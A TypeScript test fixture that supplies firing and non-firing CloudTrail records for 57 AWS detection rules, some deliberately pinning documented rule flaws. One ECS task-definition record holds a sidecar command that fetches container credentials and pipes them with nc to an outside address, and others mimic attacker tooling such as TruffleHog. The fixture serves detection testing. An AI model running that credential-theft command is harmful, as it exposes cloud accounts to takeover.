/**
 * For every one of the 57 rules: a hand-written record that fires it (built from the
 * "Keys on" column of shared/reference/detection-scenarios.md) and a near miss that does
 * not, each with the exact set of rules expected to fire on it. For the rules with
 * documented flaws (findings 1-6) the records pin the flawed behaviour as written.
 */
import { call, consoleLogin, identities, record, type Rec } from './support.js';

export const HUNT_ASSUMED_ROLE = '905d389b-b853-46d0-9d3d-dea0d3a3cd49';
export const HUNT_LIST_BUCKETS = 'f305fd62-beca-47da-ad95-7690a0620084';

export interface RuleCase {
  id: string;
  positive: Rec;
  /** Rules expected to fire on `positive` besides `id`. */
  positiveAlso?: string[];
  negative: Rec;
  /** Rules expected to fire on `negative` (never `id`). */
  negativeFires?: string[];
  /** Which detection-scenarios finding the case pins, if any. */
  finding?: number;
}

const ci = identities.assumedRole('terraform-ci', 'gh-run-42');
const s3browser = 'S3 Browser 11.5.7 https://s3browser.com';
// Instance-identity credentials: the role name is `aws:ec2-instance`, the session the instance id.
const imdsIdentity = identities.assumedRole('aws:ec2-instance', 'i-0abc1234def567890');

export const RULE_CASES: RuleCase[] = [
  // Defense impairment
  { id: '4db60cc0-36fb-42b7-9b58-a5b53019fb74', positive: call('cloudtrail', 'StopLogging', { requestParameters: { name: 'management-trail' } }), negative: call('cloudtrail', 'PutEventSelectors', { requestParameters: { trailName: 'management-trail' } }) },
  {
    id: 'd2656e78-c069-4571-8220-9e0ab5913f19',
    positive: call('guardduty', 'UpdateDetector', { requestParameters: { detectorId: '12abc34d567e8fa901bc2d34e56789f0', enable: false } }),
    negative: call('guardduty', 'UpdateDetector', { requestParameters: { detectorId: '12abc34d567e8fa901bc2d34e56789f0', enable: true } }),
  },
  { id: '6e61ee20-ce00-4f8d-8aee-bedd8216f7e3', positive: call('guardduty', 'CreateIPSet', { requestParameters: { detectorId: 'd1', name: 'trusted', format: 'TXT', location: 's3://b/ips.txt', activate: true } }), negative: call('guardduty', 'ListIPSets') },
  { id: '07330162-dba1-4746-8121-a9647d49d297', positive: call('config', 'StopConfigurationRecorder', { requestParameters: { configurationRecorderName: 'default' } }), negative: call('config', 'StartConfigurationRecorder', { requestParameters: { configurationRecorderName: 'default' } }) },
  { id: 'a607e1fe-74bf-4440-a3ec-b059b9103157', positive: call('securityhub', 'BatchUpdateFindings', { requestParameters: { Workflow: { Status: 'SUPPRESSED' } } }), negative: call('securityhub', 'GetFindings') },
  { id: '59b70e4d-dd17-44a9-b740-acf07ae3eb6a', positive: call('bedrock', 'DeleteGuardrail', { requestParameters: { guardrailIdentifier: 'gr-1' } }), negative: call('bedrock', 'GetGuardrail', { requestParameters: { guardrailIdentifier: 'gr-1' } }) },
  { id: '1c722651-254a-4b04-a9f4-99b62a2d0a1f', positive: call('bedrock', 'UpdateGuardrail', { requestParameters: { guardrailIdentifier: 'gr-1' } }), negative: call('bedrock', 'CreateGuardrail') },
  { id: 'e1f7febb-7b94-4234-b5c6-00fb8500f5dd', positive: call('ec2', 'CreateNetworkAclEntry', { requestParameters: { networkAclId: 'acl-1', ruleNumber: 100, egress: false, ruleAction: 'allow', cidrBlock: '0.0.0.0/0' } }), negative: call('ec2', 'DescribeNetworkAcls') },
  { id: 'c803b2ce-c4a2-4836-beae-b112010390b1', positive: call('ec2', 'CreateRoute', { requestParameters: { routeTableId: 'rtb-1', destinationCidrBlock: '0.0.0.0/0', gatewayId: 'igw-1' } }), negative: call('ec2', 'DeleteRoute', { requestParameters: { routeTableId: 'rtb-1' } }) },
  // Stealth
  {
    id: 'e386b9b5-af12-450e-afff-761730fb8a98',
    positive: call('ec2', 'DeleteFlowLogs', { requestParameters: { DeleteFlowLogsRequest: { FlowLogId: { tag: 1, content: 'fl-1' } } } }),
    negative: call('ec2', 'DeleteFlowLogs', { errorCode: 'Client.UnauthorizedOperation', errorMessage: 'You are not authorized to perform this operation.' }),
  },
  {
    id: '39c9f26d-6e3b-4dbb-9c7a-4154b0281112',
    positive: call('s3', 'DeleteBucket', { requestParameters: { bucketName: 'old-logs', Host: 'old-logs.s3.amazonaws.com' } }),
    negative: call('s3', 'DeleteBucket', { requestParameters: { bucketName: 'old-logs' }, errorCode: 'BucketNotEmpty', errorMessage: 'The bucket you tried to delete is not empty' }),
  },
  { id: '20f754db-d025-4a8f-9d74-e0037e999a9a', positive: call('ses', 'DeleteIdentity', { requestParameters: { identity: 'example.com' } }), negative: call('ses', 'VerifyEmailIdentity') },
  // Credential access
  {
    id: '6393e346-1977-46ef-8987-ad414a145fad',
    positive: consoleLogin('Failure', 'No'),
    negative: consoleLogin('Success', 'Yes'),
  },
  { id: 'a840e606-7c8c-4684-9bc1-eb6b6155127f', positive: record({ userAgent: 'TruffleHog' }), negative: record({ userAgent: 'TruffleHog v3.63.2' }) },
  {
    id: '055fb148-60f8-462d-ad16-26926ce050f1',
    finding: 3,
    positive: call('iam', 'UpdateLoginProfile', { requestParameters: { userName: 'bob', passwordResetRequired: false } }),
    negative: call('iam', 'GetLoginProfile', { requestParameters: { userName: 'bob' } }),
  },
  // Initial access
  { id: '77caf516-34e5-4df9-b4db-20744fea0a60', positive: consoleLogin('Success', 'No'), negative: consoleLogin('Success', 'Yes') },
  {
    id: '8ad1600d-e9dc-4251-b0ee-a65268f29add',
    positive: call('iam', 'ListUsers', { userIdentity: identities.root() }),
    negative: call('iam', 'ListUsers', { userIdentity: identities.root(), eventType: 'AwsServiceEvent' }),
  },
  {
    id: '352a918a-34d8-4882-8470-44830c507aa3',
    positive: call('ec2', 'DescribeInstances', { userIdentity: imdsIdentity, sourceIPAddress: '198.51.100.7' }),
    positiveAlso: [HUNT_ASSUMED_ROLE],
    negative: call('ec2', 'DescribeInstances', { userIdentity: imdsIdentity, sourceIPAddress: 'AWS Internal' }),
    negativeFires: [HUNT_ASSUMED_ROLE],
  },
  { id: '6fb77778-040f-4015-9440-572aa9b6b580', positive: call('ec2', 'AuthorizeSecurityGroupIngress', { requestParameters: { groupId: 'sg-1', ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }] } } }), negative: call('ec2', 'DescribeSecurityGroups') },
  { id: '7a4409fc-f8ca-45f6-8006-127d779eaad9', positive: call('elasticloadbalancing', 'SetSecurityGroups', { requestParameters: { loadBalancerArn: 'arn:aws:elasticloadbalancing:us-east-1:111122223333:loadbalancer/app/web/1', securityGroups: ['sg-1'] } }), negative: call('elasticloadbalancing', 'DescribeLoadBalancers') },
  { id: '14f3f1c8-02d5-43a2-a191-91ffb52d3015', positive: call('rds', 'CreateDBSecurityGroup', { requestParameters: { dBSecurityGroupName: 'open' } }), negative: call('rds', 'DescribeDBSecurityGroups') },
  { id: 'ec541962-c05a-4420-b9ea-84de072d18f4', positive: call('lambda', 'CreateFunctionUrlConfig', { requestParameters: { functionName: 'f', authType: 'NONE' } }), negative: call('lambda', 'CreateFunctionUrlConfig20211031', { requestParameters: { functionName: 'f', authType: 'NONE' } }) },
  {
    id: 'f43f5d2f-3f2a-4cc8-b1af-81fde7dbaf0e',
    positive: call('sts', 'AssumeRoleWithSAML', { userIdentity: { type: 'SAMLUser', principalId: 'x', userName: 'alice@example.com', identityProvider: 'arn:aws:iam::111122223333:saml-provider/Okta' } }),
    negative: call('iam', 'AssumeRoleWithSAML'),
  },
  // Persistence
  {
    id: '0a5177f4-6ca9-44c2-aacf-d3f3d8b6e4d2',
    finding: 2,
    positive: call('iam', 'CreateAccessKey', { requestParameters: { userName: 'bob' }, responseElements: { accessKey: { accessKeyId: 'AKIAEXAMPLEBOB000001', status: 'Active', userName: 'bob', createDate: 'Jan 1, 2026 12:00:00 PM' } } }),
    negative: call('iam', 'ListAccessKeys', { requestParameters: { userName: 'bob' } }),
  },
  {
    id: 'db014773-d9d9-4792-91e5-133337c0ffee',
    positive: call('iam', 'CreateUser', { userAgent: s3browser, requestParameters: { userName: 'svc-backup' } }),
    negative: call('iam', 'CreateUser', { requestParameters: { userName: 'svc-backup' } }),
  },
  {
    id: 'db014773-b1d3-46bd-ba26-133337c0ffee',
    positive: call('iam', 'CreateLoginProfile', { userAgent: s3browser, requestParameters: { userName: 'svc-backup', passwordResetRequired: false } }),
    negative: call('iam', 'CreateLoginProfile', { requestParameters: { userName: 'svc-backup', passwordResetRequired: true } }),
  },
  {
    id: 'db014773-7375-4f4e-b83b-133337c0ffee',
    positive: call('iam', 'PutUserPolicy', {
      userAgent: s3browser,
      requestParameters: {
        userName: 'svc-backup',
        policyName: 'S3BrowserPolicy',
        policyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:GetObject"],"Resource":["arn:aws:s3:::<YOUR-BUCKET-NAME>/*"]}]}',
      },
    }),
    negative: call('iam', 'PutUserPolicy', {
      userAgent: s3browser,
      requestParameters: {
        userName: 'svc-backup',
        policyName: 'S3BrowserPolicy',
        policyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:GetObject"],"Resource":["arn:aws:s3:::finance-exports/*"]}]}',
      },
    }),
  },
  { id: 'd3adb3ef-b7e7-4003-9092-1924c797db35', positive: call('sso-directory', 'DisableExternalIdPConfigurationForDirectory'), negative: call('sso', 'ListInstances') },
  { id: '92f84194-8d9a-4ee0-8699-c30bfac59780', positive: call('ec2', 'ImportKeyPair', { requestParameters: { keyName: 'attacker', publicKeyMaterial: '<sensitiveDataRemoved>' } }), negative: call('ec2', 'CreateKeyPair', { requestParameters: { keyName: 'ops' } }) },
  { id: 'a5ffb6ea-c784-4e01-b30a-deb6e58ca2ab', positive: call('account', 'EnableRegion', { requestParameters: { RegionName: 'af-south-1' } }), negative: call('account', 'ListRegions') },
  {
    id: 'b94bf91e-c2bf-4047-9c43-c6810f43baad',
    positive: call('ecs', 'RegisterTaskDefinition', {
      requestParameters: {
        family: 'web',
        containerDefinitions: [
          { name: 'app', image: 'nginx', command: ['nginx', '-g', 'daemon off;'] },
          { name: 'sidecar', image: 'alpine', command: ['sh', '-c', 'wget -qO- http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 198.51.100.7 443'] },
        ],
      },
    }),
    negative: call('ecs', 'RegisterTaskDefinition', {
      requestParameters: {
        family: 'web',
        containerDefinitions: [
          { name: 'app', image: 'nginx', command: ['nginx', '-g', 'daemon off;'] },
          { name: 'sidecar', image: 'alpine', command: ['sh', '-c', 'echo $AWS_REGION'], environment: [{ name: 'X', value: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI' }] },
        ],
      },
    }),
  },
  { id: '4ae68615-866f-4304-b24b-ba048dfa5ca7', positive: call('elasticache', 'CreateCacheSecurityGroup', { requestParameters: { cacheSecurityGroupName: 'sg' } }), negative: call('elasticache', 'DescribeCacheSecurityGroups') },
  {
    id: '3940b5f1-3f46-44aa-b746-ebe615b879e0',
    finding: 6,
    positive: call('route53', 'DisableDomainTransferLock', { requestParameters: { domainName: 'example.com' } }),
    negative: call('route53domains', 'DisableDomainTransferLock', { requestParameters: { domainName: 'example.com' } }),
  },
  {
    id: 'b056de1a-6e6e-4e40-a67e-97c9808cf41b',
    finding: 6,
    positive: call('route53', 'TransferDomainToAnotherAwsAccount', { requestParameters: { domainName: 'example.com', accountId: '999988887777' } }),
    negative: call('route53domains', 'TransferDomainToAnotherAwsAccount', { requestParameters: { domainName: 'example.com', accountId: '999988887777' } }),
  },
  // Privilege escalation
  {
    id: '97fbabf8-8e1b-47a2-b7d5-a418d2b95e3d',
    positive: call('lambda', 'UpdateFunctionConfiguration20150331v2', { requestParameters: { functionName: 'f', layers: ['arn:aws:lambda:us-east-1:999988887777:layer:ext:1'] } }),
    negative: call('lambda', 'UpdateFunctionConfiguration20150331v2', { requestParameters: { functionName: 'f', layers: [], timeout: 30 } }),
  },
  { id: '4990c2e3-f4b8-45e3-bc3c-30b14ff0ed26', positive: call('glue', 'CreateDevEndpoint', { requestParameters: { endpointName: 'dev', roleArn: 'arn:aws:iam::111122223333:role/admin' } }), negative: call('glue', 'GetDevEndpoints') },
  {
    id: '38e7f511-3f74-41d4-836e-f57dfa18eead',
    positive: call('ssm', 'SendCommand', { requestParameters: { documentName: 'AWS-RunShellScript', instanceIds: ['i-0abc'], parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS' } }),
    negative: call('ssm', 'SendCommand', { errorCode: 'AccessDenied', errorMessage: 'User is not authorized to perform: ssm:SendCommand' }),
  },
  {
    id: HUNT_ASSUMED_ROLE,
    positive: call('ec2', 'DescribeInstances', { userIdentity: ci }),
    negative: call('ec2', 'DescribeInstances', {
      userIdentity: { type: 'FederatedUser', principalId: '111122223333:bob', arn: 'arn:aws:sts::111122223333:federated-user/bob', accountId: '111122223333', sessionContext: { sessionIssuer: { type: 'IAMUser', principalId: 'AIDAEXAMPLEUSER00002', arn: 'arn:aws:iam::111122223333:user/bob', accountId: '111122223333', userName: 'bob' } } },
    }),
  },
  {
    id: 'b45ab1d2-712f-4f01-a751-df3826969807',
    positive: call('sts', 'GetSessionToken', { requestParameters: { durationSeconds: 129600 } }),
    negative: call('sts', 'GetSessionToken', { userIdentity: ci }),
    negativeFires: [HUNT_ASSUMED_ROLE],
  },
  // Lateral movement
  {
    id: 'f8103686-e3e8-46f3-be72-65f7fcb4aa53',
    positive: call('signin', 'GetSigninToken', { userAgent: 'python-requests/2.31.0' }),
    negative: call('signin', 'GetSigninToken', { userAgent: 'Jersey/${project.version}' }),
  },
  // Discovery
  {
    id: HUNT_LIST_BUCKETS,
    positive: call('s3', 'ListBuckets'),
    negative: call('s3', 'ListBuckets', { userIdentity: ci }),
    negativeFires: [HUNT_ASSUMED_ROLE],
  },
  {
    id: '9b1b8e9b-0a5d-4af1-9d2f-4c4b6e7c2c9d',
    positive: call('sts', 'GetCallerIdentity', { userAgent: 'trufflehog/3.63.2 (linux; amd64)' }),
    negative: call('sts', 'GetCallerIdentity'),
  },
  // Execution
  {
    id: '1ab3c5ed-5baf-417b-bb6b-78ca33f6c3df',
    finding: 5,
    positive: call('ec2', 'ModifyInstanceAttribute', { requestParameters: { instanceId: 'i-0abc', attribute: 'userData', value: '<sensitiveDataRemoved>' } }),
    negative: call('ec2', 'ModifyInstanceAttribute', { requestParameters: { instanceId: 'i-0abc', userData: '<sensitiveDataRemoved>' }, responseElements: { _return: true } }),
  },
  // Collection and exfiltration
  {
    id: '54b9a76a-3c71-4673-b4b3-2edb4566ea7b',
    finding: 4,
    positive: call('ec2', 'CreateInstanceExportTask', { requestParameters: { instanceId: 'i-0abc', targetEnvironment: 'vmware' }, responseElements: { exportTask: { exportTaskId: 'export-i-1', state: 'active' } } }),
    negative: call('ec2', 'CreateInstanceExportTask', { requestParameters: { instanceId: 'i-0abc', targetEnvironment: 'vmware' }, errorCode: 'Client.NotExportable', errorMessage: 'Only imported instances can be exported.' }),
  },
  { id: 'abae8fec-57bd-4f87-aff6-6e3db989843d', positive: call('ec2', 'ModifySnapshotAttribute', { requestParameters: { snapshotId: 'snap-1', createVolumePermission: { add: { items: [{ userId: '999988887777' }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' } }), negative: call('ec2', 'DescribeSnapshotAttribute') },
  { id: '78b3756a-7804-4ef7-8555-7b9024a02e2d', positive: call('s3', 'PutBucketLogging', { requestParameters: { bucketName: 'b', BucketLoggingStatus: '' } }), negative: call('s3', 'GetBucketLogging', { requestParameters: { bucketName: 'b', logging: '' } }) },
  {
    id: '8a63cdd4-6207-414a-85bc-7e032bd3c1a2',
    positive: call('rds', 'ModifyDBInstance', { requestParameters: { dBInstanceIdentifier: 'db1', masterUserPassword: '****', applyImmediately: true }, responseElements: { dBInstanceIdentifier: 'db1', pendingModifiedValues: { masterUserPassword: '****' } } }),
    negative: call('rds', 'ModifyDBInstance', { requestParameters: { dBInstanceIdentifier: 'db1', dBInstanceClass: 'db.t3.large' }, responseElements: { dBInstanceIdentifier: 'db1', pendingModifiedValues: { dBInstanceClass: 'db.t3.large' } } }),
  },
  { id: '457cc9ac-d8e6-4d1d-8c0e-251d0f11a74c', positive: call('rds', 'DeleteDBCluster', { requestParameters: { dBClusterIdentifier: 'c1', skipFinalSnapshot: true } }), negative: call('rds', 'DescribeDBClusters') },
  {
    id: 'c3f265c7-ff03-4056-8ab2-d486227b4599',
    positive: call('rds', 'RestoreDBInstanceFromDBSnapshot', { requestParameters: { dBInstanceIdentifier: 'copy', dBSnapshotIdentifier: 's1', publiclyAccessible: true }, responseElements: { dBInstanceIdentifier: 'copy', publiclyAccessible: true } }),
    negative: call('rds', 'RestoreDBInstanceFromDBSnapshot', { requestParameters: { dBInstanceIdentifier: 'copy', dBSnapshotIdentifier: 's1' }, responseElements: { dBInstanceIdentifier: 'copy', publiclyAccessible: false } }),
  },
  // Impact
  {
    id: 'a136ac98-b2bc-4189-a14d-f0d0388e57a7',
    positive: call('s3', 'PutBucketVersioning', { requestParameters: { bucketName: 'b', Host: 'b.s3.amazonaws.com', versioning: '', VersioningConfiguration: { Status: 'Suspended', xmlns: 'http://s3.amazonaws.com/doc/2006-03-01/' } } }),
    negative: call('s3', 'PutBucketVersioning', { requestParameters: { bucketName: 'b', Host: 'b.s3.amazonaws.com', versioning: '', VersioningConfiguration: { Status: 'Enabled', xmlns: 'http://s3.amazonaws.com/doc/2006-03-01/' } } }),
  },
  { id: '16124c2d-e40b-4fcc-8f2c-5ab7870a2223', positive: call('ec2', 'DisableEbsEncryptionByDefault'), negative: call('ec2', 'EnableEbsEncryptionByDefault') },
  { id: '1279262f-1464-422f-ac0d-5b545320c526', positive: call('kms', 'ImportKeyMaterial', { requestParameters: { keyId: 'k1', expirationModel: 'KEY_MATERIAL_DOES_NOT_EXPIRE' } }), negative: call('kms', 'GetParametersForImport', { requestParameters: { keyId: 'k1' } }) },
  { id: '25cb1ba1-8a19-4a23-a198-d252664c8cef', positive: call('elasticfilesystem', 'DeleteFileSystem', { requestParameters: { fileSystemId: 'fs-1' } }), negative: call('elasticfilesystem', 'CreateFileSystem') },
  { id: '6a7ba45c-63d8-473e-9736-2eaabff79964', positive: call('elasticfilesystem', 'DeleteMountTarget', { requestParameters: { mountTargetId: 'fsmt-1' } }), negative: call('elasticfilesystem', 'CreateMountTarget') },
  { id: '33d50d03-20ec-4b74-a74e-1e65a38af1c0', positive: call('eks', 'CreateCluster', { requestParameters: { name: 'c1' } }), negative: call('ecs', 'CreateCluster', { requestParameters: { clusterName: 'c1' } }) },
  { id: '7c797da2-9cf2-4523-ba64-33b06339f0cc', positive: call('elasticache', 'AuthorizeCacheSecurityGroupIngress', { requestParameters: { cacheSecurityGroupName: 'sg', eC2SecurityGroupName: 'web' } }), negative: call('elasticache', 'DescribeCacheSecurityGroups') },
  {
    id: 'ccd6a6c8-bb4e-4a91-9d2a-07e632819374',
    finding: 1,
    // Only a SIEM-enriched record (a top-level `status`) fires; CloudTrail writes no such field.
    positive: call('iam', 'DeleteSAMLProvider', { requestParameters: { sAMLProviderArn: 'arn:aws:iam::111122223333:saml-provider/Okta' }, status: 'success' }),
    negative: call('iam', 'DeleteSAMLProvider', { requestParameters: { sAMLProviderArn: 'arn:aws:iam::111122223333:saml-provider/Okta' } }),
  },
];
